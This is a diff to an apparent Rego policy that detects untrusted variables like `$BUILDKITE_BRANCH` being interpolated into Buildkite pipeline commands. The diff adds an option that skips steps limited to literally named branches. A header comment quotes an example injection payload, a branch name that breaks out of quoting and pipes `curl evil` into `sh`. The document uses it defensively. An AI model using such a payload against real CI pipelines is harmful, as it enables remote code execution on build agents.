@@ -6,10 +6,12 @@
 #   pipeline upload pastes that text into the job as code. `buildkite-agent pipeline upload`
 #   replaces `$VAR`, `${VAR}`, `${VAR:-x}` and `${VAR?}` in the whole pipeline before any
 #   shell runs: in a command (or a plugin's command) a branch named `x";curl evil|sh;"`
-#   runs, and quoting does not help. In agent tags it lets them
-#   pick the agents that run the job. `$$VAR` (the shell reads it at run time) is not
-#   reported, nor a trigger step's `build:` (`message`, `branch` … are data), labels, or
-#   step `env` values (data the shell does not parse; see `check_env`).
+#   runs, and quoting does not help. In agent tags it lets them pick the agents that run
+#   the job. Not reported: `$$VAR` (the shell reads it at run time); a trigger step's
+#   `build:` (`message`, `branch` … are data); labels; step `env` values (data the shell
+#   does not parse; see `check_env`). A step that only runs on literally named branches
+#   (`branches: main`) is still reported, as the pattern breaks once the filter changes;
+#   see `skip_fixed_branch_steps`.
 # related_resources:
 #   - ref: https://buildkite.com/docs/pipelines/configure/environment-variables#runtime-variable-interpolation
 #     description: Runtime variable interpolation and escaping with `$$`
@@ -40,6 +42,11 @@
 #         Variables whose value a pusher or pull-request author chooses: exact names, or
 #         prefixes ending in `*`. `BUILDKITE_PULL_REQUEST_REPO` is left out by default (a
 #         repository URL cannot hold shell syntax), as are commit SHAs, numbers and slugs.
+#     skip_fixed_branch_steps:
+#       default: false
+#       description: >-
+#         Do not report `$BUILDKITE_BRANCH` in steps that only run on literally named branches
+#         (`branches: main`, `if: build.branch == "main"`), where its value is one of those names.
 #     check_env:
 #       default: false
 #       description: Also report such variables in `env` values (pipeline and step), which become data, not code.
@@ -65,6 +72,28 @@ deny contains findings.finding(
 	interpolation.mentions(t.text, knobs.untrusted_variables)
 	some ref in interpolation.references(t.text)
 	interpolation.named(ref.name, knobs.untrusted_variables)
+	not skipped_fixed_branch(ref.name, t.step)
+}
+
+skipped_fixed_branch(name, entry) if {
+	knobs.skip_fixed_branch_steps
+	fixed_branch(name, entry)
+}
+
+# fixed_branch: the step only exists on branches named literally (`branches: main release`,
+# `if: build.branch == "main"`), so `$BUILDKITE_BRANCH` can only be one of those names.
+fixed_branch("BUILDKITE_BRANCH", entry) if {
+	is_string(entry.step.branches)
+	names := [n | some n in split(entry.step.branches, " "); n != ""]
+	count(names) > 0
+	every name in names {
+		regex.match(`^[A-Za-z0-9._/-]+$`, name)
+	}
+}
+
+fixed_branch("BUILDKITE_BRANCH", entry) if {
+	is_string(entry.step.if)
+	regex.match(`^\s*build\.branch\s*==\s*(?:"[A-Za-z0-9._/-]+"|'[A-Za-z0-9._/-]+')\s*$`, entry.step.if)
 }
 
 deny contains findings.finding(
